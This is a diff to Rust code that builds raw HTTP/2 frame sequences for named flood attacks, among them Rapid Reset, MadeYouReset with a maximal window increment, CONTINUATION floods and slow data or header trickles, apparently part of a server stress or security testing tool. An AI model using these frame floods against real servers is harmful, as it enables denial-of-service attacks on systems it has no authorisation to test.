@@ -6,8 +6,12 @@ use crate::h2::{block, frame};
 /// What comes once, before the units.
 pub(super) fn opening(flood: Flood) -> Vec<u8> {
     match flood {
-        Flood::Continuation => frame::write(frame::HEADERS, 0, 1, &block::get("/", &[])),
-        Flood::EmptyData => frame::headers(1, &block::request("POST", "/", &[]), 0),
+        Flood::Continuation | Flood::HeaderStops => {
+            frame::write(frame::HEADERS, 0, 1, &block::get("/", &[]))
+        }
+        Flood::EmptyData | Flood::DataDrips => {
+            frame::headers(1, &block::request("POST", "/", &[]), 0)
+        }
         _ => Vec::new(),
     }
 }
@@ -19,7 +23,7 @@ pub(super) fn unit(flood: Flood, n: usize) -> Vec<u8> {
         Flood::RapidReset => {
             [get(stream, "/"), frame::write(frame::RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
         }
-        Flood::MadeYouReset => [get(stream, "/"), window(stream, 0)].concat(),
+        Flood::MadeYouReset => [get(stream, "/"), window(stream, 0x7fff_ffff)].concat(),
         Flood::Continuation => {
             let field = [(b"x".to_vec(), b"y".to_vec())];
             frame::write(frame::CONTINUATION, 0, 1, &block::encode(&field))
@@ -29,7 +33,8 @@ pub(super) fn unit(flood: Flood, n: usize) -> Vec<u8> {
         Flood::WindowUpdate => window(0, 1),
         Flood::Priority => frame::write(frame::PRIORITY, 0, 1, &[0, 0, 0, 0, 16]),
         Flood::EmptyData => frame::write(frame::DATA, 0, 1, &[]),
-        Flood::HpackBomb | Flood::WindowStall => Vec::new(),
+        Flood::DataDrips => frame::write(frame::DATA, 0, 1, b"x"),
+        Flood::HpackBomb | Flood::WindowStall | Flood::HeaderStops => Vec::new(),
     }
 }
 
